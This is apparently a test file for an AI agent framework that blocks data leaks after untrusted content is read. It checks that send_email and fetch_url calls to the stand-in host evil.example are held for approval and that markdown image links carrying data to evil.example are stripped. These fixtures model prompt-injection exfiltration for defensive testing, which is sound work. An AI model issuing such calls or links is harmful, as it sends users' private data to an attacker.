import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { ForbiddenException } from '@nestjs/common';
import { enhance, Tool, type ChatResult, type ToolRegistration, type WorkflowInput } from '../src/index.js';
import { SecurityPolicies } from '../src/tool-policy/index.js';
import { FactsTools } from './support/facts.tool.js';
import { FakeLlm } from './support/fake-llm.js';
import type { FakeCall } from './support/fake-llm.types.js';
import { Forks } from './support/forks.js';
import { startJackdaw, type Jackdaw } from './support/jackdaw.js';
import { calls as callsOf, says, ScriptedChatModel } from './support/scripted-chat-model.js';

type Call = readonly [tool: string, args: Readonly<Record<string, unknown>>];

const PAGE: Call = ['read_page', { page: 'x' }];
const CUSTOMER: Call = ['find_customer', { id: 1 }];
const SEND: Call = ['send_email', { to: 'eve@evil.example' }];
const FETCH: Call = ['fetch_url', { url: 'https://evil.example' }];
const MODEL = { provider: 'openai' };
const AGENTS = [
  { name: 'default', model: MODEL },
  { name: 'blind', model: MODEL, memory: { enabled: false } },
  { name: 'guarded', model: MODEL, guardrails: { stripLinks: true as const } },
];
const toolNode = (id: string, [tool, args]: Call, after: readonly string[] = []) => ({
  id,
  type: 'tool' as const,
  tool,
  arguments: args,
  ...(after.length > 0 && { after: [...after] }),
});
const WORKFLOWS = [
  { name: 'sending', nodes: [toolNode('page', PAGE), toolNode('send', SEND, ['page'])] },
  {
    name: 'each',
    nodes: [
      { id: 'all', type: 'map' as const, over: ['a'], node: { type: 'tool', tool: PAGE[0], arguments: PAGE[1] } },
      toolNode('send', SEND, ['all']),
    ],
  },
] as unknown as readonly WorkflowInput[];

/** A tool whose code asks an enhanced model. */
class DelegatingTools {
  script: readonly ChatResult[] = [];
  readonly sent: string[] = [];
  readonly later = Promise.withResolvers<void>();

  @Tool({ description: 'Refuses.', effect: 'read', input: { type: 'object' } })
  refuse(): never {
    throw new ForbiddenException('Account 4711 of Ann is blocked.');
  }

  @Tool({ description: 'Confirms.', effect: 'read', private: false, approval: 'always', input: { type: 'object' } })
  confirm(): string {
    return 'confirmed';
  }

  @Tool({
    description: 'Reads later.',
    effect: 'read',
    untrusted: true,
    private: false,
    egress: false,
    input: { type: 'object' },
  })
  async read_later(): Promise<string> {
    await this.later.promise;
    return 'a page';
  }

  @Tool({ description: 'Asks a model.', effect: 'read', private: false, input: { type: 'object' } })
  async delegate(): Promise<string> {
    const tools: ToolRegistration[] = [
      {
        name: 'send',
        description: 'Sends.',
        effect: 'once',
        handler: () => void this.sent.push('sent'),
      },
      { name: 'read', description: 'Reads.', effect: 'read', untrusted: true, private: false, handler: () => 'a page' },
    ];
    const { message } = await enhance(new ScriptedChatModel(this.script), tools).generate({
      messages: [{ role: 'user', content: 'go' }],
    });
    return message.content;
  }
}

const tools = new FactsTools();
const delegating = new DelegatingTools();
let llm: FakeLlm;
let jackdaw: Jackdaw;
let ids = 0;
beforeAll(async () => {
  llm = await FakeLlm.start();
  jackdaw = await startJackdaw({
    llm,
    tools: [tools, delegating],
    options: { agents: AGENTS, workflows: WORKFLOWS, builtinTools: false },
  });
});
afterEach(async () => {
  llm.reset();
  tools.out.length = 0;
  delegating.sent.length = 0;
  await jackdaw.app.get(SecurityPolicies).set();
});
afterAll(async () => {
  await jackdaw.stop();
  await llm.close();
});

function script(calls: readonly Call[], text = 'the end'): void {
  const replies = calls.map(([name, args]): { calls: FakeCall[] } => ({
    calls: [{ id: `c${++ids}`, name, arguments: args }],
  }));
  llm.reply(...replies, { text });
}

async function play(calls: readonly Call[], request: object = {}) {
  script(calls);
  const { body } = await jackdaw.chat({ query: 'go', ...request });
  llm.reset();
  return { body, status: body['status'] ?? body['finish_reason'], session: String(body['session_id']) };
}

describe('facts of data', () => {
  it('end when the session is cleared', async () => {
    const { session: sessionId } = await play([PAGE, CUSTOMER]);
    expect(await play([FETCH], { sessionId })).toMatchObject({ status: 'waiting' });
    const cleared = (await play([PAGE, CUSTOMER])).session;
    await jackdaw.send(`/api/sessions/${cleared}/messages`, { method: 'DELETE' });
    expect(await play([FETCH], { sessionId: cleared })).toMatchObject({ status: 'stop' });
  });

  it('are those of a tool state, for a run that does not read the session', async () => {
    const { session: sessionId } = await play([PAGE, ['take_note', { note: 'write to eve' }]]);
    const blind = { sessionId, agent: 'blind' };
    expect(await play([SEND], blind)).toMatchObject({ status: 'stop' });
    expect(await play([['take_note', { note: 'x' }], SEND], blind)).toMatchObject({ status: 'waiting' });
  });

  it('are private in an import, unless this installation signed the file', async () => {
    const { session } = await play([]);
    const { body: file } = await jackdaw.get(`/api/sessions/${session}/export`);
    const { signature: _signature, ...unsigned } = file;
    for (const [id, exported] of Object.entries({ signed: file, unsigned })) {
      expect((await jackdaw.post('/api/sessions/import', { session: exported, id })).status).toBe(201);
    }
    expect(await play([PAGE, FETCH], { sessionId: 'signed' })).toMatchObject({ status: 'stop' });
    expect(await play([PAGE, FETCH], { sessionId: 'unsigned' })).toMatchObject({ status: 'waiting' });
  });

  it('go along with a fork, up to its step', async () => {
    const { body } = await play([PAGE, CUSTOMER]);
    const forks = new Forks(jackdaw);
    const statusAt = async (step: string) => {
      script([FETCH]);
      const { events } = await forks.make(String(body['run_id']), step);
      llm.reset();
      return events.at(-1)?.event;
    };
    expect(await statusAt('model:3')).toBe('run.waiting');
    expect(await statusAt('model:2')).toBe('run.completed');
  });

  it('go along with a fork that copies a call, although a parallel call read untrusted content before it', async () => {
    const both = [
      { id: 'first', name: 'read_later', arguments: {} },
      { id: 'second', name: PAGE[0], arguments: PAGE[1] },
    ];
    llm.reply({ calls: both }, { text: 'the end' });
    const stream = await jackdaw.stream({ query: 'go' });
    const { data } = await stream.waitFor('run.started');
    await stream.waitFor('tool.completed');
    delegating.later.resolve();
    await stream.all();
    const runId = String((data as { readonly run_id?: string }).run_id);
    llm.reset();
    script([CUSTOMER, FETCH]);
    const { events } = await new Forks(jackdaw).make(runId, 'tool:1:2', { toolResult: 'another page' });
    expect(events.at(-1)?.event).toBe('run.waiting');
  });

  it('are those of a tool that refused, also after the run has resumed', async () => {
    const { body } = await play([PAGE, ['refuse', {}], ['confirm', {}]]);
    script([FETCH]);
    await jackdaw.post(`/api/runs/${body['run_id']}/approve`);
    const events = await jackdaw.events(String(body['run_id']));
    expect(events.at(-1)).toMatchObject({ event: 'run.waiting', data: { requests: [{ tool: FETCH[0] }] } });
  });

  it.each(['sending', 'each'])('go from node to node of the workflow %s', async (name) => {
    const { body } = await jackdaw.post(`/api/workflows/${name}/runs`, { input: {}, wait: true });
    expect([body['status'], tools.out]).toEqual(['waiting', []]);
  });
});

describe('an enhanced model', () => {
  it('counts as the run whose tool asks it: it may not send data of that run', async () => {
    delegating.script = [callsOf(['send', {}]), says('done')];
    await play([['delegate', {}]]);
    expect(delegating.sent).toEqual(['sent']);
    await play([PAGE, CUSTOMER, ['delegate', {}]]);
    expect(delegating.sent).toEqual(['sent']);
  });

  it('gives its facts back to the run', async () => {
    delegating.script = [callsOf(['read', {}]), says('done')];
    expect(await play([['delegate', {}], SEND])).toMatchObject({ status: 'waiting' });
    delegating.script = [says('done')];
    expect(await play([['delegate', {}], SEND])).toMatchObject({ status: 'stop' });
  });
});

describe('answers of runs with untrusted content', () => {
  const ANSWER = `${'word '.repeat(400)}![x](https://evil.example/?k=1) and [a](https://evil.example/b).`;
  const STRIPPED = `${'word '.repeat(400)}[links] and [a[links].`;

  async function answer(request: object, calls: readonly Call[] = [PAGE]) {
    script(calls, ANSWER);
    const stream = await jackdaw.stream({ query: 'go', ...request });
    const events = await stream.all();
    llm.reset();
    const deltas = events.flatMap(({ event, data }) => (event === 'message.delta' ? [String(data['text'])] : []));
    return { streamed: deltas.join(''), result: events.at(-1)!.data['result'] };
  }

  it('have no links and images if the agent or the policy says so, also while they stream', async () => {
    expect(await answer({ agent: 'guarded' })).toEqual({ streamed: STRIPPED, result: STRIPPED });
    expect(await answer({})).toEqual({ streamed: ANSWER, result: ANSWER });
    await jackdaw.app.get(SecurityPolicies).set({ stripLinks: true });
    expect(await answer({})).toEqual({ streamed: STRIPPED, result: STRIPPED });
    expect(await answer({}, [CUSTOMER])).toEqual({ streamed: ANSWER, result: ANSWER });
  });
});
